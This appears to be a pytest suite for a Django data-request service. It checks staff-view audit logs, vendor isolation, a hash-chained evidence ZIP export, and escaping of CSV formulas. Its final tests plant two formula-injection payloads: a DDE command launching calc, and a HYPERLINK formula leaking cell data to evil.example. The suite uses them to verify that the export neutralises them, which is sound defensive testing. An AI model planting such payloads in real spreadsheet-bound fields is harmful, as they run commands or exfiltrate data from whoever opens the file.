"""Who saw a person's data is on record, and a request's evidence for a regulator is one ZIP whose manifest
proves every file: the staff page and file downloads log who and when (once an hour per person, never for
another vendor's staff), and the export holds the timeline with its hashes, the emails, the deadlines in
words and the chain's check, and is itself on the timeline."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from dsr.models import Event, OutgoingEmail, Package, Request, StaffMembership
from dsr.outbox.emails import render_stored
from dsr.requests import audit, evidence, workflow
from dsr.requests.timeline import Actor, content_digest, link_hash
from tests.factories import LATER, STAFF, identified, routed
from tests.staff import client_for as logged_in
from tests.staff import member

pytestmark = pytest.mark.usefixtures("policies")


def views(request: Request) -> list[tuple[str, int | None]]:
    return list(request.events.filter(kind="viewed").order_by("id").values_list("actor", "actor_user_id"))


def test_opening_a_request_page_logs_who_saw_the_persons_data_once_an_hour() -> None:
    request = routed()
    konsta, siiri = member("konsta"), member("siiri", role=StaffMembership.Role.LEAD)
    page = f"/admin/dsr/request/{request.pk}/change/"
    start = dt.datetime(2026, 3, 2, 9, tzinfo=dt.UTC)
    with time_machine.travel(start, tick=False):
        assert logged_in(konsta).get(page).status_code == 200
        assert logged_in(konsta).get(page).status_code == 200  # a reload: no second entry
        assert logged_in(siiri).get(page).status_code == 200
    assert views(request) == [("konsta", konsta.pk), ("siiri", siiri.pk)]
    seen = request.events.filter(kind="viewed").first()
    assert seen is not None and seen.at == start and "konsta viewed the person's data" in seen.message
    with time_machine.travel(start + audit.VIEW_WINDOW + dt.timedelta(seconds=1), tick=False):
        assert logged_in(konsta).get(page).status_code == 200
    assert views(request) == [("konsta", konsta.pk), ("siiri", siiri.pk), ("konsta", konsta.pk)]
    assert audit.verify_request(request.reference).intact


def test_another_vendors_staff_see_nothing_and_leave_no_entry() -> None:
    request = routed()
    outsider = member("olli", vendor="sera-leads", role=StaffMembership.Role.LEAD)
    assert logged_in(outsider).get(f"/admin/dsr/request/{request.pk}/change/").status_code == 404
    assert logged_in(outsider).post(f"/admin/dsr/request/{request.pk}/evidence/").status_code == 404
    assert views(request) == []
    assert not request.events.filter(kind="evidence_exported").exists()


def test_a_file_download_is_on_the_timeline_each_time(settings: Any, tmp_path: Path) -> None:
    settings.MEDIA_ROOT = tmp_path
    request = routed()
    workflow.record_reply(
        request,
        text="",
        files=[SimpleUploadedFile("proof.pdf", b"%PDF-1.4", "application/pdf")],
        actor=STAFF,
        now=LATER,
    )
    attachment = request.attachments.get()
    client = logged_in(member("konsta"))
    for _ in range(2):
        assert client.get(f"/admin/dsr/request/attachment/{attachment.pk}/").status_code == 200
    downloads = request.events.filter(kind="file_downloaded")
    assert [e.message for e in downloads] == ["konsta downloaded “proof.pdf”."] * 2
    assert (
        logged_in(member("olli", vendor="sera-leads"))
        .get(f"/admin/dsr/request/attachment/{attachment.pk}/")
        .status_code
        == 404
    )
    assert downloads.count() == 2


def unzip(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name.split("/", 1)[1]: archive.read(name) for name in archive.namelist()}


def answered() -> Request:
    request = identified(routed())
    workflow.add_note(request, text="Deleted the account 4411.", actor=STAFF, now=LATER)
    workflow.close_request(request, status="completed", message="Your data is deleted.", actor=STAFF, now=LATER)
    OutgoingEmail.objects.filter(request=request, kind="verify").update(
        body_text="Confirm: https://dsr.example/verify/eyJyIjoiRFNSIn0:1x:abc/", status="sent", sent_at=LATER
    )
    return Request.objects.get(pk=request.pk)


def test_the_evidence_zip_holds_the_record_and_its_manifest_proves_every_file() -> None:
    request = answered()
    lead = member("siiri", role=StaffMembership.Role.LEAD)
    response = logged_in(lead).post(f"/admin/dsr/request/{request.pk}/evidence/")
    assert response.status_code == 200 and response["Content-Type"] == "application/zip"
    assert f'filename="{request.reference}-evidence.zip"' in response["Content-Disposition"]
    files = unzip(response.content)

    manifest = json.loads(files.pop("manifest.json"))
    sums = files.pop("SHA256SUMS").decode()
    assert {f["name"] for f in manifest["files"]} == set(files)
    for entry in manifest["files"]:
        assert hashlib.sha256(files[entry["name"]]).hexdigest() == entry["sha256"]
        assert f"{entry['sha256']}  {entry['name']}\n" in sums

    timeline = json.loads(files["timeline.json"])
    events = list(Event.objects.filter(request=request).exclude(kind__in=["viewed", "evidence_exported"]))
    assert [e["id"] for e in timeline] == [e.pk for e in events]
    # Anyone can recompute the chain from the file alone.
    prev = ""
    for row in timeline:
        assert content_digest(row["salt"], row["message"], row["data"]) == row["content_digest"]
        at = dt.datetime.fromisoformat(row["at"])
        link = link_hash(
            prev,
            request_id=request.pk,
            at=at,
            kind=row["kind"],
            actor=row["actor"],
            actor_user_id=row["actor_user_id"],
            content_digest=row["content_digest"],
            policy_version_id=row["policy_version_id"],
        )
        assert row["prev_hash"] == prev and row["hash"] == link
        prev = row["hash"]
    assert json.loads(files["request.json"])["last_event_hash"] == prev == manifest["last_event_hash"]
    rows = list(csv.DictReader(io.StringIO(files["timeline.csv"].decode())))
    assert [r["hash"] for r in rows] == [r["hash"] for r in timeline]
    assert any(r["kind"] == "note" and "4411" in r["message"] for r in rows)

    assert json.loads(files["verification.json"])["intact"] is True
    assert json.loads(files["deadlines.json"]) == request.deadlines
    words = files["deadlines.txt"].decode()
    assert request.deadlines["summary"] in words and request.deadlines["deadlines"][0]["explanation"] in words

    emails = json.loads(files["emails.json"])
    verify = next(e for e in emails if e["kind"] == "verify")
    assert verify["to"] == "alice@example.com" and verify["status"] == "sent" and verify["sent_at"]
    body = files[f"emails/{verify['id']}-verify.txt"].decode()
    assert "/verify/[link hidden]/" in body and "eyJ" not in body  # the person's link is not handed over
    assert {e["kind"] for e in emails} >= {"verify", "acknowledged", "completed"}

    exported = request.events.get(kind="evidence_exported")
    assert exported.actor_user == lead
    assert exported.data["sha256"] == hashlib.sha256(response.content).hexdigest()
    assert audit.verify_request(request.reference).intact


def test_the_evidence_export_is_a_post_and_the_answer_package_hook_adds_its_files(monkeypatch: Any) -> None:
    request = answered()
    client = logged_in(member("konsta"))
    assert client.get(f"/admin/dsr/request/{request.pk}/evidence/").status_code == 405
    monkeypatch.setattr(
        evidence, "answer_package_files", lambda r: [evidence.EvidenceFile("package/manifest.json", b"{}")]
    )
    made = evidence.export(request, actor=Actor("handler", "konsta"), now=LATER)
    files = unzip(made.content)
    assert "package/manifest.json" in {f["name"] for f in json.loads(files["manifest.json"])["files"]}
    assert made.sha256 == hashlib.sha256(made.content).hexdigest()


def test_the_evidence_lists_what_the_answer_package_gave_the_person_with_its_hashes() -> None:
    from tests.dsr.test_packages import answered as answered_with_package

    request = answered_with_package()
    package = Package.objects.get(request=request)
    files = unzip(evidence.export(request, actor=Actor("handler", "konsta"), now=LATER).content)
    listed = json.loads(files["answer-package-manifest.json"])
    assert listed[-1] == {"name": "package.zip", "bytes": package.archive.size, "sha256": package.archive_sha256}
    assert {"data.json", "cover-letter.html"} <= {entry["name"] for entry in listed}


# --- what the person or their agent typed, in the evidence's CSVs ------------------------------------------

# Both are accepted by the public form: an address valid under RFC 5322, and a name on one line.
FORMULA_EMAIL = "=cmd|'/Ccalc'!A0+@example.com"
FORMULA_AGENT = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def link_in(request: Request, kind: str, path: str) -> str:
    """The signed link of `path` in the request's email of `kind`, as the worker sends it."""
    body = render_stored(OutgoingEmail.objects.get(request=request, kind=kind)).body_text
    match = re.search(rf"/{path}/[^/\s]+/", body)
    assert match, body
    return match.group(0)


def filed_and_confirmed(client: Client, **fields: str) -> Request:
    """A request filed through the public form of Leadsment and confirmed through the link in its email."""
    form = {
        "request_type": "access",
        "relationship": "account_user",
        "country": "FI",
        "state": "",
        "subject_name": "Alice Virtanen",
        "website": "",
        **fields,
    }
    response = client.post("/request/leadsment/", form)
    assert response.status_code == 302, response.content.decode()[:2000]
    request = Request.objects.get(reference=re.search(r"DSR-\w+", response["Location"]).group(0))  # type: ignore[union-attr]
    assert client.post(link_in(request, "verify", "verify")).status_code == 302
    return Request.objects.get(pk=request.pk)


def exported(client: Client, request: Request) -> dict[str, bytes]:
    """The request's evidence ZIP as a staff member downloads it from the request's page, unzipped."""
    response = client.post(f"/admin/dsr/request/{request.pk}/evidence/")
    assert response.status_code == 200
    return unzip(response.content)


def csv_cells(files: dict[str, bytes]) -> dict[str, list[list[str]]]:
    return {name: list(csv.reader(io.StringIO(body.decode()))) for name, body in files.items() if name.endswith(".csv")}


def test_what_the_person_typed_is_never_a_formula_in_the_evidence_csvs_and_the_json_keeps_it_exact(
    settings: Any, tmp_path: Path
) -> None:
    settings.MEDIA_ROOT = tmp_path
    client = Client()
    person = filed_and_confirmed(client, email=FORMULA_EMAIL)
    agent = filed_and_confirmed(client, email="agent@example.net", acting_as_agent="on", agent_name=FORMULA_AGENT)
    permission = SimpleUploadedFile("permission.pdf", b"%PDF-1.4\n", content_type="application/pdf")
    assert client.post(link_in(agent, "permission_needed", "authority"), {"permission": permission}).status_code == 302
    lead = logged_in(member("siiri", role=StaffMembership.Role.LEAD))

    person_files, agent_files = (exported(lead, request) for request in (person, agent))

    for files in (person_files, agent_files):
        sheets = csv_cells(files)
        assert set(sheets) == {"timeline.csv", "emails.csv"}
        for name, rows in sheets.items():
            for row in rows:
                for cell in row:
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    # The text is all there, for whoever reads it: only a quote in front, which a spreadsheet does not show.
    (verify,) = [
        row for row in csv.DictReader(io.StringIO(person_files["emails.csv"].decode())) if row["kind"] == "verify"
    ]
    assert verify["to"] == "'" + FORMULA_EMAIL
    (sent,) = [
        r
        for r in csv.DictReader(io.StringIO(agent_files["timeline.csv"].decode()))
        if r["kind"] == "permission_received"
    ]
    assert sent["message"] == f"'{FORMULA_AGENT} sent the person's signed permission: permission.pdf."
    assert "instead of running it as a formula" in " ".join(person_files["README.txt"].decode().split())

    # The JSON is the exact record: the addresses as written, the event's text as its hash chain covers it.
    assert {e["to"] for e in json.loads(person_files["emails.json"])} == {FORMULA_EMAIL}
    (received,) = [e for e in json.loads(agent_files["timeline.json"]) if e["kind"] == "permission_received"]
    assert received["message"] == f"{FORMULA_AGENT} sent the person's signed permission: permission.pdf."
    assert content_digest(received["salt"], received["message"], received["data"]) == received["content_digest"]
    assert audit.verify_request(agent.reference).intact
